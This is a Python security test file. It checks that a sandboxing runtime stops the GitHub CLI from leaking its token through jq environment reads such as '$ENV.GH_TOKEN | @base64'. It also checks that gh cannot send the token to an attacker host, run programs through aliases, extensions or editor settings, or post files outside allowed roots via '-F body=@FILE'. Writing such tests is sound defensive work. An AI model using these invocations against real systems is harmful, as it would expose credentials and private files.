"""Red team: gh, run by `command run` or the cli transport, must neither reveal the token nor
be made to start programs (DESIGN.md sections 6, 8, 9), nor send a file outside the roots.

gh's --jq reads gh's environment (`$ENV`, `env`), so a token handed over as GH_TOKEN
could be printed re-encoded (`@base64`), where no redactor can recognise it. And
gh shell aliases, extensions and the editor/pager/browser settings make a later gh
run start a program of the caller's choosing, a shell included. A field value
`-F body=@FILE` makes gh read FILE itself.
"""

from __future__ import annotations

import base64
import os
import shutil
from pathlib import Path
from typing import Any

import pytest

from providers.github.standin_env import is_identity_lookup, runtime_env
from support.confinement import SECRET
from support.github_standin import GitHubStandIn
from support.github_standin.fixtures import require_gh


def encodings(token: str) -> list[str]:
    return [token, base64.b64encode(token.encode()).decode(), token[4:], token[4:].lower()]


@pytest.mark.parametrize(
    "args",
    [
        ["command", "run", "gh", "api", "/user", "--jq", "$ENV.GH_TOKEN | @base64"],
        ["command", "run", "gh", "api", "/user", "--jq", "env | tostring | explode | reverse"],
        ["command", "run", "gh", "api", "/user", "--jq", "$ENV.GH_TOKEN | .[4:]"],
        ["github", "pr", "list", "--repo", "acme/payments-api", "--json", "number",
         "--jq", "$ENV.GH_TOKEN | @base64"],
        ["github", "pr", "list", "--repo", "acme/payments-api", "--json", "number",
         "--jq", "env.GH_TOKEN // \"\" | ascii_downcase | .[4:]"],
    ],
)  # fmt: skip
def test_gh_jq_cannot_read_the_token_from_its_environment(
    args: list[str], runtime: Any, home: Path
) -> None:
    require_gh()
    with GitHubStandIn() as standin:
        run = runtime("--output", "json", *args, env=runtime_env(standin))
    assert run.code == 0, run
    text = run.stdout + run.stderr + (home / "audit.jsonl").read_text()
    for form in encodings(standin.token):
        assert form not in text, run
    # explode | reverse: the token's code points, last first
    codes = ",".join(str(ord(ch)) for ch in reversed(standin.token))
    assert codes not in text.replace(" ", "").replace("\n", "")


def test_gh_still_authenticates_with_the_forwarded_token(runtime: Any) -> None:
    require_gh()
    with GitHubStandIn() as standin:
        typed = runtime("command", "run", "gh", "api", "/user", "--jq", ".login",
                        env=runtime_env(standin))  # fmt: skip
        listed = runtime("--output", "json", "github", "pr", "list", "--repo",
                         "acme/payments-api", "--json", "number", env=runtime_env(standin))  # fmt: skip
    assert typed.code == 0 and typed.stdout.strip() == "octocat", typed
    assert listed.code == 0 and listed.json["output"], listed
    sent = {r.header("Authorization") for r in standin.requests if not is_identity_lookup(r)}
    assert sent == {f"token {standin.token}"}


def test_the_token_is_not_sent_to_a_host_gh_is_pointed_at(runtime: Any) -> None:
    require_gh()
    with GitHubStandIn() as standin:
        env = runtime_env(standin)
        run = runtime("command", "run", "gh", "api", "--hostname", "evil.localhost", "/user",
                      env=env)  # fmt: skip
    assert run.code != 0, run
    assert all(
        standin.token not in str(r.header("Authorization"))
        for r in standin.requests
        if r.host != "api.github.localhost"
    )


@pytest.mark.parametrize(
    "args",
    [
        ["alias", "set", "--shell", "pwn", "touch MARKER"],
        ["alias", "set", "pwn", "!touch MARKER"],
        ["alias", "import", "aliases.yml"],
        ["extension", "install", "evil/gh-pwn"],
        ["ext", "exec", "pwn"],
        ["config", "set", "editor", "touch MARKER"],
        ["config", "set", "-h", "github.com", "browser", "touch MARKER"],
        ["config", "set", "pager", "touch MARKER"],
    ],
)
def test_gh_cannot_be_taught_to_run_a_program(
    args: list[str], runtime: Any, home: Path, tmp_path: Path
) -> None:
    gh_home = tmp_path / "gh-home"
    gh_home.mkdir()
    run = runtime("command", "run", "gh", *args, env={"HOME": str(gh_home)})
    assert run.code == 4, run
    assert "safety floor: gh" in run.stderr
    assert list(gh_home.iterdir()) == []  # no config written


def test_gh_reads_and_harmless_settings_stay_allowed(runtime: Any) -> None:
    for args in (["alias", "list"], ["config", "set", "git_protocol", "https"],
                 ["extension", "list"]):  # fmt: skip
        run = runtime("resolve", "command", "run", "gh", *args)
        assert run.code == 0, (args, run)


# --- gh reads a file named inside a field value (`-F body=@FILE`) ---------------------------------


def gh_policy(tmp_path: Path, search_path: str = "") -> Path:
    policy = tmp_path / "gh-policy.yaml"
    search = f"  search_path: [{search_path}]\n  sandbox: auto\n" if search_path else ""
    policy.write_text(
        "schema_version: 3\nallowed_binaries: [gh, git, jq, terraform]\n"
        f"command_policy:\n{search}  effects:\n    default: [read, write]\n"
        "file_policy:\n  read_roots: [.]\n  write_roots: [.]\n"
    )
    return policy


FIELD_FILE_SPELLINGS = [
    ["-F", "body=@{secret}"],
    ["--field", "body=@{secret}"],
    ["--field=body=@{secret}"],
    ["-Fbody=@{secret}"],
]


def gh_post_issue(
    runtime: Any, policy: Path, spelling: list[str], secret: Path
) -> tuple[Any, bytes]:
    from providers.github.standin_env import runtime_env
    from support.github_standin import GitHubStandIn
    from support.github_standin.fixtures import require_gh

    require_gh()
    words = [w.format(secret=secret) for w in spelling]
    with GitHubStandIn() as standin:
        env = {**runtime_env(standin), "RUNTIME_POLICY_FILE": str(policy)}
        ran = runtime("command", "run", "gh", "api", "-X", "POST",
                      "repos/acme/payments-api/issues", "-F", "title=t", *words, env=env)  # fmt: skip
        bodies = b"".join(r.body for r in standin.requests)
    return ran, bodies


@pytest.mark.parametrize("spelling", FIELD_FILE_SPELLINGS)
def test_confined_gh_cannot_post_a_file_outside_the_roots(
    spelling: list[str], runtime: Any, tmp_path: Path, outside: Path
) -> None:
    ran, bodies = gh_post_issue(runtime, gh_policy(tmp_path), spelling, outside / "secret.txt")
    assert SECRET.encode() not in bodies, ran


@pytest.mark.parametrize("spelling", FIELD_FILE_SPELLINGS)
def test_unconfined_gh_cannot_post_a_file_outside_the_roots(
    spelling: list[str], runtime: Any, tmp_path: Path, outside: Path
) -> None:
    bin_dir = tmp_path / "nobwrap-gh"
    bin_dir.mkdir()
    for tool in ("gh", "git"):
        os.symlink(str(shutil.which(tool)), bin_dir / tool)
    policy = gh_policy(tmp_path, search_path=str(bin_dir))
    ran, bodies = gh_post_issue(runtime, policy, spelling, outside / "secret.txt")
    assert SECRET.encode() not in bodies, ran
